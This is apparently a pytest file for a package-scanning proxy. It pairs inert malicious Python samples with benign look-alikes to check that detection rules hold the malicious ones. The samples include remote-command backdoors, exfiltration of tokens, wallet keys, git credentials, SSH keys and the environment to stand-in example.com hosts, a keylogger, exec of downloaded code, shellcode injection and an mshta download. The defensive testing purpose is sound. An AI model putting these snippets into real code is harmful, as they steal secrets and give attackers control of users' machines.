@@ -1,0 +1,378 @@
+"""Behaviours rules 7 reads, each in a function of a module the package imports (code that
+runs when the user calls it, not at install or import time), beside a look-alike that must
+pass: a command taken from a socket, a chat bot or a local server's request and run; a shell
+command fetched from a server; code fetched through an HTTP client object, or downloaded and
+imported; machine code copied into memory and started; a mail account or bot signed in to with credentials written
+in; a CI token or a wallet's private key sent in a body; a key logger; credential files and
+the whole environment sent from a function; a download run by ``mshta``.
+
+The "malicious" sources below are inert text handed to the scanner; nothing runs them.
+"""
+
+from __future__ import annotations
+
+import pytest
+
+from pipgate.policies.scan import ScanPolicy
+from pipgate.proxy.scan import scan_archive
+from tests.support.archives import wheel
+
+POLICY = ScanPolicy()
+
+
+def _scan(client: str) -> tuple[dict[str, float], bool]:
+    """The rules found (heaviest weight each) and whether the policy holds a wheel whose
+    ``__init__`` imports ``client`` (which defines functions nothing calls on import)."""
+    archive = wheel({"demo/__init__.py": "from .client import connect\n", "demo/client.py": client})
+    report = scan_archive(archive, "demo-1.0-py3-none-any.whl")
+    assert report.incomplete is None
+    rules: dict[str, float] = {}
+    for item in report.findings:
+        rules[item.rule] = max(rules.get(item.rule, 0.0), item.weight)
+    return rules, not POLICY.decide(report).allowed
+
+
+CASES = {
+    "websocket command": (
+        "download-exec",
+        """\
+import json, subprocess, websocket
+
+def connect():
+    ws = websocket.create_connection("wss://relay.example.net/agent")
+    while True:
+        job = json.loads(ws.recv())
+        ws.send(subprocess.getoutput(job["cmd"]))
+""",
+        """\
+import json, subprocess, websocket
+
+def connect():
+    ws = websocket.create_connection("wss://relay.example.net/agent")
+    while True:
+        job = json.loads(ws.recv())
+        ws.send(subprocess.getoutput("uptime") + job["id"])
+""",
+    ),
+    "discord bot command": (
+        "download-exec",
+        """\
+import discord, subprocess
+
+client = discord.Client(intents=discord.Intents.all())
+
+@client.event
+async def on_message(message):
+    await message.channel.send(subprocess.getoutput(message.content))
+
+def connect():
+    client.run("MTEyMzQ1Njc4OTAxMjM0NTY3OA.GaBcDe.abcdefghijklmnopqrstuvwxyz0123456789AB")
+""",
+        """\
+import discord, os, subprocess
+
+client = discord.Client(intents=discord.Intents.all())
+
+@client.event
+async def on_message(message):
+    if message.content == "!uptime":
+        await message.channel.send(subprocess.getoutput("uptime"))
+
+def connect():
+    client.run(os.environ["DISCORD_TOKEN"])
+""",
+    ),
+    "local server command": (
+        "download-exec",
+        """\
+import http.server, subprocess, threading
+
+class Handler(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        out = subprocess.check_output(self.path[1:], shell=True)
+        self.send_response(200)
+        self.end_headers()
+        self.wfile.write(out)
+
+def connect():
+    server = http.server.HTTPServer(("0.0.0.0", 8765), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+""",
+        """\
+import http.server, subprocess, threading
+
+class Handler(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        out = subprocess.check_output(["git", "rev-parse", "HEAD"])
+        self.send_response(200)
+        self.end_headers()
+        self.wfile.write(out + self.path.encode())
+
+def connect():
+    server = http.server.HTTPServer(("127.0.0.1", 8765), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+""",
+    ),
+    "polled shell command": (
+        "download-exec",
+        """\
+import requests, subprocess, time
+
+def connect():
+    while True:
+        cmd = requests.get("https://cdn-update.example.com/task").text
+        out = subprocess.check_output(cmd, shell=True)
+        requests.post("https://cdn-update.example.com/result", data=out)
+        time.sleep(30)
+""",
+        """\
+import requests, subprocess
+
+def connect():
+    version = requests.get("https://pypi.org/pypi/demo/json").json()["info"]["version"]
+    subprocess.check_output("git fetch --tags", shell=True)
+    return version
+""",
+    ),
+    "mail account": (
+        "phone-home",
+        """\
+import getpass, smtplib, socket
+
+def connect():
+    server = smtplib.SMTP("smtp.gmail.com", 587)
+    server.starttls()
+    server.login("updatesvc2025@gmail.com", "abcd efgh ijkl mnop")
+    body = f"Subject: up\\n\\n{socket.gethostname()} {getpass.getuser()}"
+    server.sendmail("updatesvc2025@gmail.com", "updatesvc2025@gmail.com", body)
+""",
+        """\
+import getpass, smtplib, socket
+
+def connect(user, password):
+    server = smtplib.SMTP("smtp.gmail.com", 587)
+    server.starttls()
+    server.login(user, password)
+    body = f"Subject: up\\n\\n{socket.gethostname()} {getpass.getuser()}"
+    server.sendmail(user, user, body)
+""",
+    ),
+    "ci token": (
+        "secret-exfil",
+        """\
+import os, requests
+
+def connect():
+    requests.post("https://stats.example.com/t", json={"gh": os.environ.get("GITHUB_TOKEN")})
+""",
+        """\
+import os, requests
+
+def connect():
+    token = os.environ.get("GITHUB_TOKEN")
+    return requests.get("https://api.github.com/user", headers={"Authorization": f"token {token}"})
+""",
+    ),
+    "wallet private key": (
+        "secret-exfil",
+        """\
+import requests
+
+def connect(private_key):
+    requests.post("https://rpc-stats.example.com/v1", json={"key": private_key})
+""",
+        """\
+import requests
+from eth_account import Account
+
+def connect(private_key, tx):
+    signed = Account.sign_transaction(tx, private_key)
+    requests.post("https://rpc.example.com/v1", json={"tx": signed.raw_transaction.hex()})
+""",
+    ),
+    "key logger": (
+        "spyware",
+        """\
+import requests
+from pynput import keyboard
+
+keys = []
+
+def on_press(key):
+    keys.append(str(key))
+    if len(keys) > 50:
+        requests.post("https://logs.example.com/k", data="".join(keys))
+        keys.clear()
+
+def connect():
+    keyboard.Listener(on_press=on_press).start()
+""",
+        """\
+from pynput import keyboard
+
+def on_press(key):
+    if key == keyboard.Key.f12:
+        print("toggled")
+
+def connect():
+    keyboard.Listener(on_press=on_press).start()
+""",
+    ),
+    "git credentials": (
+        "credential-exfil",
+        """\
+import os, requests
+
+def connect():
+    secrets = open(os.path.expanduser("~/.git-credentials")).read()
+    requests.post("https://a.example.com/g", data=secrets)
+""",
+        """\
+import os, requests
+
+def connect():
+    settings = open(os.path.expanduser("~/.config/demo.toml")).read()
+    requests.post("https://a.example.com/g", data=settings)
+""",
+    ),
+    "whole environment": (
+        "credential-exfil",
+        """\
+import json, os, urllib.request
+
+def connect():
+    body = json.dumps(dict(os.environ)).encode()
+    urllib.request.urlopen(urllib.request.Request("https://telemetry.example.io/c", data=body))
+""",
+        """\
+import os, subprocess, urllib.request
+
+def connect():
+    env = os.environ.copy()
+    env["LANG"] = "C"
+    subprocess.run(["make"], env=env)
+    return urllib.request.urlopen("https://telemetry.example.io/ping").read()
+""",
+    ),
+    "http client session": (
+        "download-exec",
+        """\
+import requests
+
+def connect():
+    session = requests.Session()
+    exec(session.get("https://cdn.example.com/p").text)
+""",
+        """\
+import requests
+
+def connect(path):
+    session = requests.Session()
+    settings = session.get("https://cdn.example.com/p").json()
+    exec(open(path).read(), {"settings": settings})
+""",
+    ),
+    "downloaded module": (
+        "drop-run",
+        """\
+import importlib.util, os, tempfile, urllib.request
+
+def connect():
+    path = os.path.join(tempfile.gettempdir(), "helper.py")
+    urllib.request.urlretrieve("https://cdn.example.com/h.py", path)
+    spec = importlib.util.spec_from_file_location("helper", path)
+    module = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(module)
+""",
+        """\
+import importlib.util, os, urllib.request
+
+def connect():
+    urllib.request.urlretrieve("https://cdn.example.com/data.csv", "data.csv")
+    path = os.path.join(os.path.dirname(__file__), "plugins", "csv.py")
+    spec = importlib.util.spec_from_file_location("csv_plugin", path)
+    module = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(module)
+""",
+    ),
+    "shellcode": (
+        "shellcode",
+        """\
+import ctypes
+
+def connect(buf):
+    kernel32 = ctypes.windll.kernel32
+    ptr = kernel32.VirtualAlloc(0, len(buf), 0x3000, 0x40)
+    kernel32.RtlMoveMemory(ptr, buf, len(buf))
+    kernel32.WaitForSingleObject(kernel32.CreateThread(0, 0, ptr, 0, 0, 0), -1)
+""",
+        """\
+import ctypes
+
+def connect(size):
+    kernel32 = ctypes.windll.kernel32
+    ptr = kernel32.VirtualAlloc(0, size, 0x3000, 0x04)
+    kernel32.VirtualFree(ptr, 0, 0x8000)
+""",
+    ),
+    "mshta": (
+        "download-run",
+        """\
+import os
+
+def connect():
+    os.system("mshta https://cdn.example.com/a.hta")
+""",
+        """\
+import os
+
+def connect():
+    os.system("mshta.exe --help")
+""",
+    ),
+}
+
+
+@pytest.mark.parametrize("case", sorted(CASES))
+def test_a_payload_in_a_function_of_an_imported_module_is_held(case: str) -> None:
+    rule, malicious, _ = CASES[case]
+    rules, held = _scan(malicious)
+    assert rule in rules, rules
+    assert held, rules
+
+
+@pytest.mark.parametrize("case", sorted(CASES))
+def test_its_everyday_look_alike_passes(case: str) -> None:
+    rule, _, benign = CASES[case]
+    rules, held = _scan(benign)
+    assert rules.get(rule, 0) < 10, rules
+    assert not held, rules
+
+
+def test_a_screen_capture_beside_network_use_is_found_but_not_enough_alone() -> None:
+    rules, held = _scan(
+        """\
+import io, requests
+from PIL import ImageGrab
+
+def connect():
+    buffer = io.BytesIO()
+    ImageGrab.grab().save(buffer, "PNG")
+    requests.post("https://img.example.com/u", files={"s": buffer.getvalue()})
+"""
+    )
+    assert rules.get("spyware") == 8
+    assert not held
+    rules, _ = _scan(
+        "from PIL import ImageGrab\n\ndef connect():\n    ImageGrab.grab().save('s.png')\n"
+    )
+    assert "spyware" not in rules
+
+
+def test_a_glob_over_the_ssh_folder_reads_keys() -> None:
+    rules, _ = _scan(
+        "import glob, os, requests\n\ndef connect():\n"
+        '    for f in glob.glob(os.path.expanduser("~/.ssh/id_*")):\n'
+        '        requests.post("https://keys.example.com", data=open(f).read())\n'
+    )
+    assert "credential-read" in rules
